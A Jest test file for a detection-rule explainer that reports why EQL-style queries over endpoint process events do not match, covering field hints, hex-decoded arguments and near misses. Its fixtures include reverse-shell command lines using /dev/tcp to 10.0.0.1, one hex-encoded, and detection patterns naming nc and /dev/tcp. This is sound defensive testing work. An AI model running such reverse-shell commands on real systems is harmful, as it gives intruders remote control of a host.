// What people complained about when a rule did not match, one by one.
import { describe, expect, test } from '@jest/globals';
import { explainQuery } from '../../src/explain/index.js';
import { clauses, explain, explainAll, hints, targetOf } from './support.js';

const EVENT = {
  '@timestamp': '2026-11-21T04:00:00Z',
  event: {
    category: ['process'],
    type: ['start'],
    module: 'endpoint',
    dataset: 'endpoint.events.process',
  },
  process: { name: 'bash', args: ['bash', '-c', 'id'] },
};

describe('row 25: nothing says why a rule never hits', () => {
  test('gate, category, fields present and missing, and the first clause that fails', () => {
    const explanation = explain(
      'process where event.type == "start" and process.name == "nc" and process.args_count > 2',
      EVENT,
      { index: ['logs-endpoint.events.*'], gate: 'auto' },
    );
    const [subquery] = explanation.subqueries;
    expect(explanation.gate).toMatchObject({
      index: 'logs-endpoint.events.process-default',
      isOpen: true,
    });
    expect(subquery?.category).toMatchObject({ wanted: 'process', seen: ['process'], holds: true });
    expect(clauses(explanation).map(({ mark, fields }) => [mark, fields[0]?.state])).toEqual([
      ['true', 'present'],
      ['false', 'present'],
      ['unknown', 'missing'],
    ]);
    expect(subquery?.firstFalse?.text).toBe('process.name == "nc"');
  });

  test('an event of another category', () => {
    const [subquery] = explain('network where true', EVENT).subqueries;
    expect(subquery).toMatchObject({
      isSatisfied: false,
      category: { wanted: 'network', holds: false },
    });
  });
});

describe('row 26: a gate that cannot tell is never ignored silently', () => {
  const bare = { '@timestamp': '2026-11-21T04:00:00Z', event: { category: 'process' } };
  const options = { index: ['logs-endpoint.events.*'] };

  test('an event without a data set is let in, and that is said', () => {
    const { gate } = explain('process where true', bare, { ...options, gate: 'auto' });
    expect(gate).toMatchObject({ index: null, isOpen: true });
  });

  test('and kept out by the strict gate', () => {
    const { gate, isCandidate } = explain('process where true', bare, {
      ...options,
      gate: 'strict',
    });
    expect([gate.index, gate.isOpen, isCandidate]).toEqual([null, false, false]);
  });

  test('an input tells how many events each data set has, and whether they are let in', async () => {
    const other = { ...EVENT, event: { category: 'process', dataset: 'system.auth' } };
    const { origins, subqueries } = await explainAll('process where true', [EVENT, bare, other], {
      ...options,
      gate: 'auto',
    });
    expect(origins).toEqual([
      { name: null, events: 1, isOpen: true },
      { name: 'logs-endpoint.events.process-default', events: 1, isOpen: true },
      { name: 'logs-system.auth-default', events: 1, isOpen: false },
    ]);
    expect(subqueries[0]?.ofCategory).toBe(2);
  });
});

describe('row 27: what is looked for stands in another field', () => {
  test('a field of the event for which the clause would hold', () => {
    const explanation = explain('process where process.command_line : "*/dev/tcp/*"', {
      ...EVENT,
      process: { title: 'bash -i >& /dev/tcp/10.0.0.1/99' },
    });
    expect(hints(explanation)).toEqual([
      'would hold for `process.title`, "bash -i >& /dev/tcp/10.0.0.1/99"',
    ]);
  });

  test('also where the field has another value, if the literal is telling', () => {
    const event = { ...EVENT, message: 'bash -c bash >& /dev/tcp/10.0.0.1/99' };
    expect(hints(explain('process where process.args : "*/dev/tcp/*"', event))).toEqual([
      'would hold for `message`, "bash -c bash >& /dev/tcp/10.0.0.1/99"',
    ]);
    expect(hints(explain('process where process.args : "*>&*"', event))).toEqual([]);
  });

  test('a field that contains the literal', () => {
    const explanation = explain('process where process.name == "setsid"', {
      ...EVENT,
      process: { args: ['sh', '-c', 'setsid id'] },
    });
    expect(hints(explanation)).toEqual(['`process.args` contains "setsid"']);
  });
});

describe('row 28: a field that flattening renamed', () => {
  test('is found in the event by its letters', () => {
    const explanation = explain('process where process.name == "nc"', {
      event: { category: 'process' },
      process_name: 'nc',
    });
    expect(hints(explanation)).toContain('the event has `process_name`');
  });

  test.each([
    ['proces.name', 'process.name', 'process.name'],
    ['process.args', null, 'fields.process.args'],
    ['process.working_directory', null, null],
  ])('%s: did you mean, of known fields and of those of the input', async (path, known, seen) => {
    const { absentFields } = await explainAll(`any where ${path} == "x"`, [
      {
        '@timestamp': '2026-11-21T04:00:00Z',
        process: { name: 'a' },
        fields: { process: { args: 'b' } },
      },
    ]);
    expect(absentFields).toEqual([{ path, isKnown: known === null, known, seen }]);
  });
});

describe('row 29: arguments in hex', () => {
  const hex = Buffer.from('bash\0-c\0id >/dev/tcp/10.0.0.1/99').toString('hex');

  test.each([
    ['of the field itself', { process: { title: hex } }],
    ['of another field', { auditd: { data: { proctitle: hex.toUpperCase() } } }],
  ])('%s', (_, fields) => {
    const explanation = explain('any where process.title : "*/dev/tcp/*"', fields);
    expect(hints(explanation)[0]).toMatch(
      /is hex for "bash -c id >\/dev\/tcp\/10.0.0.1\/99", for which it would hold/,
    );
  });

  test('a hash is no text', () => {
    const explanation = explain('any where process.title : "*a*b"', {
      process: { title: 'd41d8cd98f00b204e9800998ecf8427e' },
    });
    expect(hints(explanation)).toEqual([]);
  });
});

test('row 30: the nearest events, by the clauses that they pass', async () => {
  const event = (name: string, args: readonly string[]): typeof EVENT => ({
    ...EVENT,
    process: { name, args: [...args] },
  });
  const { nearMisses, matches } = await explainAll(
    'process where event.type == "start" and process.name == "nc" and process.args == "-e"',
    [event('ls', []), event('ls', []), event('nc', ['-l']), event('cat', ['-x'])],
  );
  expect(matches).toBe(0);
  expect(
    nearMisses.map(({ event: { place }, shortBy, needs, failing, alike }) => [
      place?.line,
      shortBy,
      needs,
      failing.map(({ text }) => text),
      alike,
    ]),
  ).toEqual([
    [3, 1, 3, ['process.args == "-e"'], 1],
    [1, 2, 3, ['process.name == "nc"', 'process.args == "-e"'], 3],
  ]);
});

test('row 31: a rule is explained without any data', () => {
  const words = explainQuery(
    targetOf(
      'sequence by host.id with maxspan=1m [process where proces.name == "a" or not process.pid == 1] by user.id ![file where true] by user.name [any where true] by user.name',
      { index: ['logs-*'] },
    ),
  );
  expect(words).toMatchObject({
    kind: 'sequence',
    maxspanMs: 60_000,
    patterns: ['logs-*'],
    keys: [{ fields: ['host.id'] }, { fields: ['user.id', 'user.name'] }],
    subqueries: [
      { role: 'stage', places: [1], category: 'process', condition: { kind: 'any' } },
      { role: 'missing', places: [2], category: 'file' },
      { role: 'stage', places: [3], category: null },
    ],
  });
  expect(words.fields).toContainEqual({ path: 'proces.name', type: null, known: 'process.name' });
});

test('of a query that no events can match an explanation says so, with data and without', async () => {
  const dead = 'process where process.name == "a" and process.pid == 1 and process.name == "b"';
  const reason = 'no event can satisfy `process.name == "a"` with `process.name == "b"`';
  expect(explainQuery(targetOf(dead)).never).toBe(reason);
  const event = { event: { category: 'process' }, process: { name: 'a' } };
  expect(await explainAll(dead, [event])).toMatchObject({ matches: 0, never: reason });
  expect(explainQuery(targetOf('process where process.name == "a" | head 0')).never).toBe(
    'a pipe keeps no match',
  );
  const alive = 'process where process.name == "a" or process.pid > 2 and process.pid < 1';
  expect(explainQuery(targetOf(alive)).never).toBeNull();
  expect(await explainAll(alive, [event])).toMatchObject({ matches: 1, never: null });
});
